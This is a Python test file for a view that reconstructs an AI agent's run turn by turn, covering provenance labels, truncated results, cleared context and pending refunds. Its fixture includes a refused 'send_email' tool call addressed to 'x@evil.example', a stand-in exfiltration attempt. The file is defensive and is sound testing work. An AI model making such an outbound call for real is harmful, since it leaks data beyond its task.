"""The step-by-step view of a run (signoff/service/trajectory.py), built from what its
history holds: each model turn's request (the conversation as the model received it)
and reply. Checked on a conversation written out by hand: what the model asked for,
each result as the model read it (bounded, flagged, with its provenance), a call the
catalog refused, a result cleared later, and a refund still waiting."""

from __future__ import annotations

import json
from datetime import UTC, datetime

from signoff.service.trajectory import (
    REFUSED_PROVENANCE,
    _History,
    pretty,
    steps_of,
)
from workflows.context import CLEARED_STUB
from workflows.contracts import (
    Message,
    ModelRef,
    ModelReply,
    ModelRequest,
    TextBlock,
    ToolResultBlock,
    ToolSpec,
    ToolUseBlock,
)
from workflows.policy import MAX_TOOL_RESULT_CHARS

AT = datetime(2026, 11, 30, 12, 0, 0, tzinfo=UTC)
TOOLS = [
    ToolSpec(name=name, description=name, input_schema={"type": "object"})
    for name in ("read_ticket", "get_order", "refund")
]
TICKET = json.dumps(
    {"ticket_id": "T-1", "provenance": "customer ticket, unverified free text", "text": "<b>hi"}
)


def request(*messages: Message) -> ModelRequest:
    return ModelRequest(
        model=ModelRef(provider="scripted", model_id="demo"),
        system="s",
        messages=list(messages),
        tools=TOOLS,
        max_tokens=100,
    )


def reply(*blocks: TextBlock | ToolUseBlock) -> ModelReply:
    return ModelReply(content=list(blocks), stop_reason="tool_use")


OPENING = Message(role="user", content=[TextBlock(text="answer the ticket")])
TURN_1 = reply(
    TextBlock(text="Let me read it."),
    ToolUseBlock(id="t1", name="read_ticket", input={}),
    ToolUseBlock(id="t2", name="send_email", input={"to": "x@evil.example"}),
)
RESULTS_1 = Message(
    role="user",
    content=[
        ToolResultBlock(tool_use_id="t1", content=TICKET),
        ToolResultBlock(tool_use_id="t2", content="Unknown tool 'send_email'.", is_error=True),
    ],
)
TURN_2 = reply(ToolUseBlock(id="t3", name="refund", input={"amount": "9.00", "reason": "x"}))


def history() -> _History:
    assistant_1 = Message(role="assistant", content=list(TURN_1.content))
    # Context clearing stubbed turn 1's ticket in a later request: the view keeps the
    # first, whole, version the model read.
    cleared = Message(
        role="user",
        content=[
            ToolResultBlock(tool_use_id="t1", content=CLEARED_STUB),
            RESULTS_1.content[1],
        ],
    )
    return _History(
        requests=[
            (AT, request(OPENING)),
            (AT, request(OPENING, assistant_1, RESULTS_1)),
            (AT, request(OPENING, assistant_1, cleared)),
        ],
        replies={0: TURN_1, 1: TURN_2},
    )


def test_each_turn_says_what_the_model_asked_for_and_what_it_read() -> None:
    steps = steps_of(history())
    assert [step.turn for step in steps] == [1, 2, 3]
    first = steps[0]
    assert first.text == ["Let me read it."]
    ticket, email = first.calls
    assert ticket.name == "read_ticket" and ticket.delivered and not ticket.is_error
    assert json.loads(ticket.result or "") == json.loads(TICKET)  # not the cleared stub
    assert ticket.provenance == "customer ticket, unverified free text"
    assert email.is_error and email.result == "Unknown tool 'send_email'."
    assert email.provenance == REFUSED_PROVENANCE
    assert json.loads(email.arguments) == {"to": "x@evil.example"}


def test_a_refund_that_waits_has_no_result_and_the_last_turn_no_reply() -> None:
    steps = steps_of(history())
    (refund,) = steps[1].calls
    assert refund.name == "refund" and refund.result is None and not refund.delivered
    assert steps[2].stop_reason is None and steps[2].calls == []


def test_results_are_bounded_for_the_page() -> None:
    shown = pretty("x" * (MAX_TOOL_RESULT_CHARS * 3))
    assert len(shown) <= MAX_TOOL_RESULT_CHARS and "[cut:" in shown
    assert pretty('{"a":1}') == '{\n  "a": 1\n}'


def test_a_run_on_a_prompt_catalog_knows_its_tools_from_its_request() -> None:
    # Its model turns name the catalog and carry no tool spec; its request names the tools.
    asked = reply(ToolUseBlock(id="t9", name="get_order", input={}))
    failed = Message(
        role="user",
        content=[
            ToolResultBlock(tool_use_id="t9", content="the tool did not answer", is_error=True)
        ],
    )
    turns = [
        request(OPENING),
        request(OPENING, Message(role="assistant", content=list(asked.content)), failed),
    ]
    named = _History(
        requests=[
            (AT, turn.model_copy(update={"tools": [], "prompt_digest": "0" * 64})) for turn in turns
        ],
        replies={0: asked},
    )
    assert steps_of(named)[0].calls[0].provenance == REFUSED_PROVENANCE  # as if unknown

    named.offered = {"read_ticket", "get_order", "refund"}
    (call,) = steps_of(named)[0].calls

    assert call.is_error and call.provenance == "the shop's order records"
